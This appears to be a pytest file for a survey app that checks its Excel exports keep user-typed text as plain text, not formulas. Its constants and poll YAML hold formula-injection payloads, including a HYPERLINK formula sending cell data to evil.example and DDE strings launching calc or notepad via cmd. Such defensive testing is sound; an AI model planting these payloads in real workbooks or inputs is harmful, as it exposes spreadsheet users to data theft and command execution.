"""No workbook the app writes holds a formula made from what people typed (issue 10, item 2).

Every export is read back with openpyxl (no cell of type formula) and with python-calamine
(the text is exactly what was typed), with hostile answers, unit codes and names, choice
labels and user names.
"""

import io
import uuid

from openpyxl import load_workbook
from python_calamine import CalamineWorkbook
from sqlalchemy import select

from survey_app.models import Unit
from survey_app.polls import services as polls
from survey_app.registry.services import definition_of, sync_definition
from survey_app.surveys.loader import load_definition
from survey_app.surveys.validation import validate
from survey_app.surveys.xlsform import export_xlsform
from tests.conftest import csrf_token
from tests.factories import add_poll_answers

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A3,"x")'
PHONE = "=1+1+1+1+1"
UNIT_CODE = "=1+2"
UNIT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
USER_NAME = "+cmd|' /C notepad'!A0"
LABELS = ["=1+2", "-2+3", "+A1", "@A1", "=cmd|' /C calc'!A0"]

POLL = """\
key: poll_evil
title: {vi: "=Phiếu", en: "=Poll"}
audience: worker_poll
layout: single
sections:
  - key: s1
    title: {vi: Ý kiến, en: Opinion}
    questions:
      - key: pick
        type: single_choice
        label: {vi: "-Câu hỏi", en: "-Question"}
        choices:
          - {value: a, label: {vi: "=1+2", en: "=1+2"}}
          - {value: b, label: {vi: "-2+3", en: "-2+3"}}
          - {value: c, label: {vi: "+A1", en: "+A1"}}
          - {value: d, label: {vi: "@A1", en: "@A1"}}
          - {value: e, label: {vi: "=cmd|' /C calc'!A0", en: "=cmd|' /C calc'!A0"}}
"""


def workbook_facts(data: bytes) -> tuple[list[str], set]:
    """(formula cells found by openpyxl, every value python-calamine reads)."""
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in load_workbook(io.BytesIO(data)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    values = {
        value
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for value in row
    }
    return formulas, values


def hostile_unit(db) -> Unit:
    """A unit saved before the code rule was shared (or by hand in the database)."""
    parent = db.session.scalars(select(Unit).where(Unit.code == "KT")).one()
    unit = Unit(code=UNIT_CODE, name=UNIT_NAME, kind="grassroots", parent=parent)
    db.session.add(unit)
    db.session.commit()
    return unit


def test_responses_export_keeps_typed_text_as_text(client, login, make_user, sample_survey, db):
    hostile_unit(db)
    reporter = make_user("inspector", unit_code=UNIT_CODE, full_name=USER_NAME)
    login(reporter)
    for note, model in ((HYPERLINK, PHONE), ("-1", "@A1")):
        data = {
            "csrf_token": csrf_token(client, "/surveys/sample_check/fill"),
            "_response_id": str(uuid.uuid4()),
            "has_union": "yes",
            "members": "12",
            "note_text": note,
            "models.0.model_name": model,
        }
        assert client.post("/surveys/sample_check/fill", data=data).status_code == 303
    client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    login(make_user("office"))
    export = client.get("/admin/surveys/sample_check/responses.xlsx")
    assert export.status_code == 200
    formulas, values = workbook_facts(export.data)
    assert formulas == []
    assert {HYPERLINK, PHONE, "-1", "@A1", UNIT_CODE, UNIT_NAME, USER_NAME} <= values
    assert 12 in values  # numbers stay numbers


def test_roster_export_keeps_codes_and_names_as_text(client, login_as, db, app, tmp_path):
    login_as("admin")
    hostile_unit(db)
    formulas, values = workbook_facts(client.get("/admin/units/export.xlsx").data)
    assert formulas == []
    assert {UNIT_CODE, UNIT_NAME} <= values
    path = tmp_path / "units.xlsx"
    assert app.test_cli_runner().invoke(args=["units", "export", str(path)]).exit_code == 0
    formulas, values = workbook_facts(path.read_bytes())
    assert formulas == [] and {UNIT_CODE, UNIT_NAME} <= values


def test_poll_results_export_keeps_labels_and_unit_names_as_text(client, login_as, db, kontum):
    sync_definition(db.session, load_definition(POLL), POLL)
    db.session.commit()
    hostile_unit(db)
    link = polls.create_link(db.session, "poll_evil", UNIT_CODE)
    db.session.commit()
    definition = definition_of(link.survey.current_version)
    for i in range(6):
        result = validate(definition, {"pick": "abcde"[i % 5]})
        add_poll_answers(db, link, result.answers)
    db.session.commit()
    login_as("reviewer")
    export = client.get("/admin/polls/results/poll_evil.xlsx")
    assert export.status_code == 200
    formulas, values = workbook_facts(export.data)
    assert formulas == []
    assert {*LABELS, "-Câu hỏi", UNIT_NAME} <= values


def test_xlsform_export_keeps_labels_as_text():
    formulas, values = workbook_facts(export_xlsform(load_definition(POLL)))
    assert formulas == []
    assert {*LABELS, "-Câu hỏi", "=Phiếu"} <= values
